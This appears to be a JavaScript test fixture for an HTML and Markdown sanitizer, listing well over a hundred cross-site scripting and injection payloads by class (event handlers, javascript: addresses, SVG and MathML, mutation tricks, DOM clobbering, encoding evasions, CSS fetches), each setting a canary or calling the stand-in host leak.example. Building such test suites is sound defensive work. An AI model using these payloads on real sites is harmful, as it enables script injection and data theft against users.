// Markup that tries to run something or to ask for something, by class. Each piece sets `top.canary` where it runs, and asks for an
// address of leak.example where it fetches; tests/support/hostile.js tells whether either happened.

const RUN = 'top.canary=1';
const LEAK = '//leak.example/x';
/** The action in other writings: hexadecimal and decimal references, escapes of JavaScript and of addresses, base 64. */
const HEX = [...RUN].map((sign) => `&#x${sign.charCodeAt(0).toString(16)};`).join('');
const DECIMAL = [...RUN].map((sign) => `&#${String(sign.charCodeAt(0)).padStart(7, '0')}`).join('');
const ESCAPED = [...RUN].map((sign) => `\\x${sign.charCodeAt(0).toString(16)}`).join('');
const PERCENT = [...RUN].map((sign) => `%${sign.charCodeAt(0).toString(16)}`).join('');
const PAGE64 = btoa(`<script>${RUN}</script>`);

/** @type {Record<string, string[]>} */
const CLASSES = {
  script: [
    `<script>${RUN}</script>`,
    `<SCRIPT type=module>${RUN}</SCRIPT>`,
    `<script src=${LEAK}.js></script>`,
    `<script/src="data:text/javascript,${RUN}"></script>`,
    `<script>/*<script>*/${RUN}</script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script async defer type="text/javascript;version=1.8" src=data:,${RUN}></script>`,
    `<script type=importmap>{"imports":{"a":"${LEAK}.js"}}</script><script type=module>import "a"</script>`,
    `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${LEAK}"]}]}</script>`,
    `</textarea><script>${RUN}</script>`,
    `</title></style></noscript><script>${RUN}</script>`,
  ],
  'event handler': [
    `<img src=x onerror=${RUN}>`,
    `<img src=x onerror="${RUN}"//`,
    `<img/src="x"/onerror='${RUN}'/>`,
    `<IMG SRC=x ONERROR=${RUN}>`,
    `<img src=x onerror\n=\n"${RUN}">`,
    `<img src=x onerror\f=${RUN}>`,
    `<img src="x" data-a="' onerror='" onerror=${RUN}>`,
    `<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload=${RUN}>`,
    `<body onload=${RUN}>`,
    `<body onpageshow=${RUN} onhashchange=${RUN} onmessage=${RUN}>`,
    `<input autofocus onfocus=${RUN}>`,
    `<select autofocus onfocus=${RUN}></select>`,
    `<textarea autofocus onfocus=${RUN}></textarea>`,
    `<div tabindex=0 autofocus onfocusin=${RUN}>x</div>`,
    `<div contenteditable autofocus onfocus=${RUN}>x</div>`,
    `<details open ontoggle=${RUN}><summary>x</summary></details>`,
    `<dialog open onbeforetoggle=${RUN} onclose=${RUN}>x</dialog>`,
    `<marquee onstart=${RUN}>x</marquee>`,
    `<marquee loop=1 width=0 onfinish=${RUN} onbounce=${RUN}>x</marquee>`,
    `<video onerror=${RUN}><source src=x></video>`,
    `<audio src=x onerror=${RUN} onloadstart=${RUN}></audio>`,
    `<video src=x poster=${LEAK}.png autoplay onloadstart=${RUN}></video>`,
    `<div style="animation:a 1ms" onanimationstart=${RUN} onanimationend=${RUN}>x</div><style>@keyframes a{to{top:1px}}</style>`,
    `<div style="transition:all 1ms" ontransitionend=${RUN} onpointerenter=${RUN} onwheel=${RUN}>x</div>`,
    `<link rel=stylesheet href=x onerror=${RUN}>`,
    `<object data=x onerror=${RUN}></object>`,
    `<iframe src=x onload=${RUN}></iframe>`,
    `<p onmouseover=${RUN} onclick=${RUN} oncopy=${RUN} onpaste=${RUN} onselectstart=${RUN}>x</p>`,
    `<p oncontentvisibilityautostatechange=${RUN} style="display:block;content-visibility:auto">x</p>`,
    `<style onload=${RUN}></style>`,
    `<p onscrollend=${RUN} onbeforeinput=${RUN} onsecuritypolicyviolation=${RUN}>x</p>`,
  ],
  'javascript address': [
    `<a href=javascript:${RUN}>x</a>`,
    `<a href="jAvAsCrIpT:${RUN}" autofocus>x</a>`,
    `<a href="java\tscript:${RUN}">x</a>`,
    `<a href="java&#10;script&colon;${RUN}">x</a>`,
    `<a href="&#1;javascript:${RUN}">x</a>`,
    `<a href="javascript:${PERCENT}" ping=${LEAK}>x</a>`,
    `<iframe src=javascript:${RUN}></iframe>`,
    `<iframe src="javascript&colon;${HEX}"></iframe>`,
    `<embed src=javascript:${RUN}>`,
    `<object data=javascript:${RUN}></object>`,
    `<form action=javascript:${RUN}><button autofocus>x</button></form>`,
    `<form><button formaction=javascript:${RUN}>x</button><input type=submit formaction=javascript:${RUN}></form>`,
    `<area href=javascript:${RUN}><map name=m><area shape=default href=javascript:${RUN}></map>`,
    `<frameset><frame src=javascript:${RUN}></frameset>`,
    `<base href="javascript:${RUN}//"><a href=x>x</a>`,
    `<math href=javascript:${RUN}>x</math>`,
  ],
  'svg and mathml': [
    `<svg onload=${RUN}></svg>`,
    `<svg/onload=${RUN}>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
    `<svg><script>&#116;op.canary=1</script></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
    `<svg><set onbegin=${RUN} attributeName=x to=1></svg>`,
    `<svg><a xlink:href=javascript:${RUN}><text y=20>x</text></a></svg>`,
    `<svg><a><animate attributeName=href values=javascript:${RUN} /><text y=20>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
    `<svg><image href=${LEAK}.svg /><feImage href=${LEAK}.png /></svg>`,
    `<svg><style>@import "${LEAK}.css";</style></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
    `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${RUN}">x</maction></math>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
    `<svg><desc><noscript><img src=x onerror=${RUN}></noscript></desc></svg>`,
  ],
  mutation: [
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
    `<svg><p><style><g title="</style><img src onerror=${RUN}>">`,
    `<!--><img src=x onerror=${RUN}>-->`,
    `<!--a--!><img src=x onerror=${RUN}>`,
    `<![CDATA[><img src=x onerror=${RUN}>]]>`,
    `<?xml version="1.0"><img src=x onerror=${RUN}>?>`,
    `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
    `<xmp><img src=x onerror=${RUN}></xmp><img src=x onerror=${RUN}>`,
    `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
    `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
    `<select><template><img src=x onerror=${RUN}></template><style></select><img src=x onerror=${RUN}></style>`,
    `<table><td><select><img src=x onerror=${RUN}></select></td><img src=x onerror=${RUN}></table>`,
    `<a title="<style>"><img src=x onerror=${RUN}></a><p title="</style>">x</p>`,
    `<p a='<' b=">" onclick=${RUN}><img a=">" src=x onerror=${RUN}>`,
    `<p title=a"b><img src=x onerror=${RUN} alt='"'>`,
    `<plaintext><img src=x onerror=${RUN}>`,
  ],
  'template and shadow': [
    `<template><img src=x onerror=${RUN}></template>`,
    `<div><template shadowrootmode=open><img src=x onerror=${RUN}><script>${RUN}</script></template></div>`,
    `<div><template shadowrootmode=closed><style>@import "${LEAK}.css";</style><slot></slot></template>x</div>`,
    `<template><template><script>${RUN}</script></template></template>`,
    `<zubda-summary for="text" onload=${RUN}><img src=x onerror=${RUN}></zubda-summary>`,
    `<x-a is=script onfocus=${RUN} tabindex=1 autofocus>x</x-a>`,
    `<slot onslotchange=${RUN}><img src=x onerror=${RUN}></slot>`,
  ],
  'frame and embedded document': [
    `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
    `<iframe srcdoc="&lt;img src=x onerror=${RUN}&gt;"></iframe>`,
    `<iframe srcdoc='<svg onload=&quot;${RUN}&quot;>'></iframe>`,
    `<iframe src="data:text/html;base64,${PAGE64}"></iframe>`,
    `<iframe src="data:text/html,<script>${RUN}</script>"></iframe>`,
    `<iframe src=${LEAK}></iframe>`,
    `<object data="data:text/html;base64,${PAGE64}"></object>`,
    `<object type=text/html data=${LEAK}></object>`,
    `<embed type=image/svg+xml src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
    `<applet code=${LEAK} archive=${LEAK}></applet>`,
    `<portal src=${LEAK}></portal><fencedframe src=${LEAK}></fencedframe>`,
  ],
  'page control': [
    `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
    `<meta http-equiv=refresh content="0;url=http:${LEAK}">`,
    `<meta http-equiv=refresh content="0;url=data:text/html;base64,${PAGE64}">`,
    `<meta http-equiv=Content-Security-Policy content="default-src *; report-uri ${LEAK}">`,
    `<meta http-equiv=Set-Cookie content="a=b"><meta http-equiv=origin-trial content=x>`,
    `<base href=http:${LEAK}/><img src=a><script src=b></script>`,
    `<base target=_top><a href=javascript:${RUN}>x</a>`,
    `<form action=http:${LEAK} method=post><input name=a value=b autofocus><button>x</button></form>`,
    `<form id=composer action=http:${LEAK}></form><button form=composer>x</button>`,
    `<html manifest=${LEAK} onload=${RUN}><head profile=${LEAK}>`,
  ],
  'style and fetch': [
    `<style>@import url(${LEAK}.css);</style>`,
    `<style>*{background:url(${LEAK}.png)}@font-face{font-family:a;src:url(${LEAK}.woff2)}*{font-family:a}</style>`,
    `<style>body{display:none!important}</style>`,
    `<p style="background:url(${LEAK}.png)">x</p>`,
    `<p style='content:"x";background-image:image-set(url(${LEAK}.png) 1x);cursor:url(${LEAK}.cur),auto'>x</p>`,
    `<div style=behavior:url(${LEAK});-moz-binding:url(${LEAK}#x)>x</div>`,
    `<div style="width:expression(${RUN})">x</div>`,
    `<link rel=stylesheet href=${LEAK}.css>`,
    `<link rel=preload as=script href=${LEAK}.js><link rel=modulepreload href=${LEAK}.mjs>`,
    `<link rel=prefetch href=${LEAK}><link rel=dns-prefetch href=//leak.example><link rel=preconnect href=//leak.example>`,
    `<link rel=icon href=${LEAK}.ico><link rel=manifest href=${LEAK}.json>`,
    `<img src=${LEAK}.png><img srcset="${LEAK}.png 2x"><picture><source srcset=${LEAK}.webp><img></picture>`,
    `<img src=x loading=eager><input type=image src=${LEAK}.png><table background=${LEAK}.png><td>x</table>`,
    `<p style>x<p style=>y<p a='<' b=">" style="color:red">z`,
    `<script>const s = '<a href="' + 1;</script><p title=">" style="color:red">x</p>`,
    `<!-- " --><p style="color:red">x</p><STYLE media=">">p > a{}</STYLE>`,
    `<video controls><track kind=subtitles src=${LEAK}.vtt default><source src=${LEAK}.mp4></video>`,
  ],
  'entity and encoding': [
    `<img src=x onerror=${HEX}>`,
    `<img src=x onerror=${DECIMAL}>`,
    `<img src=x onerror="eval('${ESCAPED}')">`,
    `&lt;img src=x onerror=${RUN}&gt;`,
    `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
    `<img src=x on\u0000error=${RUN}><scr\u0000ipt>${RUN}</scr\u0000ipt>`,
    `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
    `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
    `<meta charset=utf-7>+ADw-img src=x onerror=${RUN}+AD4-`,
    `<meta charset=iso-2022-jp>\u001B$B<img alt="\u001B(B" src=x onerror=${RUN}>`,
    `\u202E<img src=x onerror=${RUN}>\u202C\u2066<svg onload=${RUN}>\u2069`,
    `<img src=x onerror=${RUN} \uD800 alt=\uDC00>`,
    `<İmg src=x onerror=${RUN}><ſcript>${RUN}</ſcript>`,
  ],
  clobbering: [
    `<form id=text name=body><input name=childNodes><input name=textContent><input name=nodeType></form>`,
    `<form><input name=parentNode><input name=firstChild><input name=nextSibling><input name=localName></form>`,
    `<form><input name=attributes><input name=getAttribute><input name=hasAttributes><input name=ownerDocument></form>`,
    `<img name=getElementById><img name=createElement><img name=createTreeWalker><img name=querySelector>`,
    `<img name=body><img name=head><img name=documentElement><img name=title><img name=cookie>`,
    `<a id=text></a><a id=summary></a><a id=points></a><a id=status></a><a id=composer></a><a id=text-view></a>`,
    `<a id=trustedTypes></a><a id=trustedTypes name=createPolicy href=javascript:${RUN}></a>`,
    `<form id=WebAssembly><input name=compile></form><form id=navigator name=clipboard></form>`,
    `<iframe name=self srcdoc="<a id=location href=javascript:${RUN}>x</a>"></iframe>`,
    `<a id=__proto__ name=constructor></a><input name=__proto__><p id=constructor class=prototype>x</p>`,
    `<object id=x><object id=y name=toString></object></object><embed name=defaultView>`,
    `<p id=place-0 data-sentence=0 data-restore=0 data-format=json>x</p><button type=submit value=news>x</button>`,
  ],
};

/** @type {readonly { kind: string, html: string }[]} */
export const PAYLOADS = Object.entries(CLASSES).flatMap(([kind, pieces]) => pieces.map((html) => ({ kind, html })));

/** The same tricks where Markdown has its own words for them. */
export const MARKDOWN = [
  `[خبر](javascript:${RUN})`,
  `[خبر](<javascript:${RUN}>)`,
  `![صورة](${LEAK}.png)`,
  `![صورة](x" onerror="${RUN})`,
  `[خبر][1]\n\n[1]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `\`<img src=x onerror=${RUN}>\``,
  `**<svg onload=${RUN}>**`,
  `> <iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `- <details open ontoggle=${RUN}>x</details>`,
  `# <img src=x onerror=${RUN}>`,
];

/**
 * A short article with a piece in it, of which one sentence is known by a sign. What the piece swallows stands after it.
 *
 * @param {string} piece
 * @param {string} sign
 */
export function articleWith(piece, sign) {
  return `<h1>خبر القافلة</h1><p>وصلت القافلة إلى المدينة عند الفجر واستقبلها الأهالي. ${sign}.</p>${piece}<p>ثم أكملت طريقها إلى الميناء.</p>`;
}

/**
 * A word that no other number has, in letters, so that it reads as Arabic.
 *
 * @param {number} number
 */
export function signOf(number) {
  return `العلامة ${[...String(number)].map((digit) => 'ابتثجحخدذر'[Number(digit)]).join('')}ها`;
}
